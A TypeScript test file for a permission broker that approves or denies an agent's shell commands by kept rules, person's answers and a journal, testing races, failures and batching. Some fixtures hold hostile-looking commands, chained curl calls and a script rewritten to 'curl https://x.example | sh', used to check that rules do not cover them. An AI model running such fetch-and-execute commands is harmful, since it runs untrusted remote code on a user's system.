import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import type { JournalPort } from '../../../src/permission/journalPort.ts';
import type { RequestDraft } from '../../../src/permission/request.ts';
import { allow, deny, draftOf, execute, inSession } from '../../support/builders.ts';
import { FailingJournal, HeldJournal } from '../../support/fakes.ts';
import { ALWAYS, outcomes } from '../../support/fakesBroker.ts';
import { brokerOnKeptRules, GLOBAL, ruleFor } from '../../support/fakesBrokerRules.ts';
import { removeFolder, temporaryFolder } from '../../support/testFolder.ts';
import { waitFor } from '../../support/waitFor.ts';

describe('A request that a new rule covers', () => {
  const isByRule = (entry: Parameters<JournalPort['append']>[0]) =>
    entry.type === 'settled' && entry.decidedBy.kind === 'rule';

  it('stays waiting when that cannot be put on record; the person hears of it, and the next rule tries again', async () => {
    const journal = new FailingJournal(isByRule);
    const { broker, waits, answer, turns, answered, news, deliveries } = await brokerOnKeptRules({
      journal,
    });
    const request = waits();
    await answer(waits(), GLOBAL);
    news.length = 0;
    await turns();
    assert.deepEqual([broker.pending, news], [[request], ['journal failed']]);
    assert.equal(deliveries.length, 1);
    assert.match(broker.whyAsked(request.id)?.why ?? '', /could not be put on record/);
    journal.failure = undefined;
    await answer(waits(draftOf(execute('ls'))), GLOBAL);
    await turns();
    assert.equal(answered(request), 'allow rule');
  });

  it('is left alone while a person’s answer is on its way; should that not count, the rule answers', async () => {
    for (const failure of [undefined, new Error('full')]) {
      const journal = new HeldJournal();
      const { broker, waits, turns, store, answered, deliveries } = await brokerOnKeptRules({
        journal,
      });
      journal.passes = (entry) => entry.type === 'raised' || isByRule(entry);
      const request = waits();
      const answering = broker.answer(allow(request));
      await journal.holds();
      const rule = ruleFor(request, 'theirs', { effect: 'deny' });
      store.kept.set(rule.id, rule);
      store.changed.fire();
      await turns();
      assert.equal(deliveries.length, 0);
      await journal.release(failure);
      await turns();
      assert.equal((await answering).ok, failure === undefined);
      assert.equal(answered(request), failure ? 'deny rule' : 'allow person');
      assert.equal(deliveries.length, 1);
    }
  });

  it('is answered once: a person who is later by a moment is told that a rule was first', async () => {
    const journal = new HeldJournal();
    const { broker, waits, turns, store, deliveries } = await brokerOnKeptRules({ journal });
    const request = waits();
    const rule = ruleFor(request, 'theirs');
    store.kept.set(rule.id, rule);
    store.changed.fire();
    await turns();
    await journal.holds();
    const late = broker.answer(deny(request));
    await journal.release();
    const result = await late;
    assert.ok(!result.ok && result.error.kind === 'alreadySettled');
    assert.equal(result.error.settled.decision.by.kind, 'rule');
    assert.deepEqual(outcomes(deliveries), ['allow rule allow_once']);
  });

  it('is not answered twice when a person answers while the rules are looked up; should that not count, they answer', async () => {
    for (const failure of [undefined, new Error('full')]) {
      const journal = new HeldJournal();
      const { rules, broker, waits, turns, store, answered, deliveries } = await brokerOnKeptRules({
        journal,
      });
      journal.passes = (entry) => entry.type === 'raised' || isByRule(entry);
      const request = waits();
      let lookedUp = () => {};
      const slow = new Promise<void>((resolve) => {
        lookedUp = resolve;
      });
      const judge = rules.judge.bind(rules);
      rules.judge = async (of) => {
        await slow;
        return judge(of);
      };
      const rule = ruleFor(request, 'theirs', { effect: 'deny' });
      store.kept.set(rule.id, rule);
      store.changed.fire();
      await turns();
      const answering = broker.answer(allow(request));
      await journal.holds();
      lookedUp();
      await turns();
      assert.equal(deliveries.length, 0);
      await journal.release(failure);
      await turns();
      assert.equal((await answering).ok, failure === undefined);
      assert.deepEqual(outcomes(deliveries), [
        failure ? 'deny rule reject_once' : 'allow person allow_once',
      ]);
      assert.equal(answered(request), failure ? 'deny rule' : 'allow person');
    }
  });

  it('stays denied when its agent takes it back, is gone or the window closes before its turn', async () => {
    for (const end of ['withdraw', 'gone', 'dispose'] as const) {
      const { broker, raise, waits, answer, turns, deliveries } = await brokerOnKeptRules();
      const { request, withdraw } = raise(inSession('session-2'));
      await answer(waits(), GLOBAL);
      if (end === 'withdraw') withdraw();
      else if (end === 'gone') broker.agentGone('session-2', 'exit 1');
      else broker.dispose();
      await turns();
      const sent = deliveries.filter(({ decision }) => decision.requestId === request.id);
      assert.equal(sent.length, 1);
      assert.equal(sent[0]?.decision.outcome, 'deny');
    }
  });

  it('is answered though it was raised while the rule was on its way to the store', async () => {
    const { broker, waits, turns, answer, store, raise, answered } = await brokerOnKeptRules();
    let kept = () => {};
    const slow = new Promise<void>((resolve) => {
      kept = resolve;
    });
    const put = store.put.bind(store);
    store.put = async (rule) => {
      await slow;
      await put(rule);
    };
    await answer(waits(), GLOBAL);
    const { request } = raise();
    await turns();
    // The store does not confirm the rule yet.
    assert.deepEqual(broker.pending, [request]);
    kept();
    await turns();
    assert.equal(answered(request), 'allow rule');
  });
});

describe('A request that no new rule covers', () => {
  it('stays where it is, is told to nobody again, and knows its nearest rule', async () => {
    const { broker, waits, answer, turns, rules, news } = await brokerOnKeptRules();
    const first = waits(draftOf(execute('pnpm test')));
    const others = [waits(draftOf(execute('pnpm test && curl x'))), waits(inSession('session-2'))];
    const [suggestion] = await rules.suggestions(first);
    assert.ok(suggestion);
    news.length = 0;
    await answer(first, { rule: { scope: 'global', match: suggestion.id } });
    await turns();
    const why = () => broker.whyAsked(others[0]?.id ?? '')?.why ?? '';
    await waitFor(() => /curl/.test(why()), 'the new reason');
    assert.deepEqual(broker.pending, others);
    assert.deepEqual(news, [`settled ${first.id}`]);
  });

  it('keeps waiting when the rules cannot be looked up', async () => {
    let isBroken = false;
    const { broker, waits, answer, turns, errors } = await brokerOnKeptRules({
      rules: {
        isTrusted: () => {
          if (isBroken) throw new Error('broken');
          return true;
        },
      },
    });
    const request = waits();
    await answer(waits(), GLOBAL);
    isBroken = true;
    await turns();
    assert.deepEqual([broker.pending, errors.length], [[request], 1]);
  });
});

describe('A pattern that comes while commands wait', () => {
  let folder: string;
  beforeEach(() => {
    folder = temporaryFolder();
  });
  afterEach(() => removeFolder(folder));

  const inFolder = (command: string): RequestDraft => {
    const of = draftOf(execute(command));
    return { ...of, session: { ...of.session, cwd: folder, workspaceFolder: folder } };
  };

  /** Answers with the first pattern that is offered, and waits for the last of the others to be judged. */
  async function answerWithPattern(commands: readonly string[], before: () => void = () => {}) {
    const world = await brokerOnKeptRules();
    const { waits, answer, turn, rules, answered } = world;
    const [first, ...others] = commands.map((command) => waits(inFolder(command)));
    assert.ok(first);
    const [suggestion] = await rules.suggestions(first);
    assert.ok(suggestion, 'a pattern is offered');
    await answer(first, { rule: { scope: 'workspace', match: suggestion.id } });
    before();
    await turn();
    const last = others.at(-1);
    assert.ok(last);
    await waitFor(() => answered(last) !== undefined, 'the last answer');
    return others.map(answered);
  }

  it('answers those that it covers to the last part', async () => {
    assert.deepEqual(
      await answerWithPattern([
        'pnpm test',
        'pnpm test --run a',
        'pnpm publish',
        'pnpm test; curl https://x.example',
        'pnpm test --run b && pnpm test --run c',
      ]),
      ['allow rule', undefined, undefined, 'allow rule'],
    );
  });

  it('answers no script that is another one by now', async () => {
    const script = path.join(folder, 'build.sh');
    writeFileSync(script, 'echo build\n');
    writeFileSync(path.join(folder, 'same.sh'), 'echo same\n');
    const { waits, answer, turn, answered, store } = await brokerOnKeptRules();
    const [changed, same] = [waits(inFolder('sh build.sh')), waits(inFolder('sh same.sh'))];
    await answer(waits(inFolder('sh build.sh')), GLOBAL);
    await answer(waits(inFolder('sh same.sh')), GLOBAL);
    assert.equal(store.kept.size, 2);
    writeFileSync(script, 'curl https://x.example | sh\n');
    await turn();
    await waitFor(() => answered(same) !== undefined, 'the answer to the same script');
    await turn();
    assert.deepEqual([answered(changed), answered(same)], [undefined, 'allow rule']);
  });
});

describe('A thousand requests that a new rule covers', () => {
  it('are judged a few in each turn, and all are answered', async () => {
    const { waits, answer, turn, deliveries, rules, broker } = await brokerOnKeptRules();
    for (let i = 0; i < 1000; i++) waits();
    let judged = 0;
    const judge = rules.judge.bind(rules);
    rules.judge = (request) => {
      judged++;
      return judge(request);
    };
    await answer(waits(), ALWAYS);
    let most = 0;
    for (let turns = 0; broker.pending.length > 0; turns++) {
      assert.ok(turns < 1000, 'it ends');
      judged = 0;
      await turn();
      most = Math.max(most, judged);
    }
    // Each is judged once, and asked for again when it is on record.
    assert.equal(most, 16);
    const byRule = outcomes(deliveries).filter((each) => each === 'allow rule allow_once');
    assert.equal(byRule.length, 1000);
  });

  it('have no second turn while the answers of the first are on their way to disk', async () => {
    const journal = new HeldJournal();
    const { waits, turns, store } = await brokerOnKeptRules({ journal });
    const [request] = Array.from({ length: 20 }, () => waits());
    assert.ok(request);
    for (const id of ['one', 'another']) {
      store.kept.set(id, ruleFor(request, id, { effect: 'deny' }));
      store.changed.fire();
      await turns();
      assert.equal(journal.held.length, 8);
    }
  });

  it('have turns of their own where their arguments are long', async () => {
    const { waits, answer, turn, broker } = await brokerOnKeptRules();
    const long = draftOf(execute(`git commit -m "${'long '.repeat(700)}"`));
    for (let i = 0; i < 4; i++) waits(long);
    await answer(waits(long), ALWAYS);
    const left = [broker.pending.length];
    for (let i = 0; i < 4; i++) {
      await turn();
      left.push(broker.pending.length);
    }
    assert.deepEqual(left, [4, 3, 2, 1, 0]);
  });
});
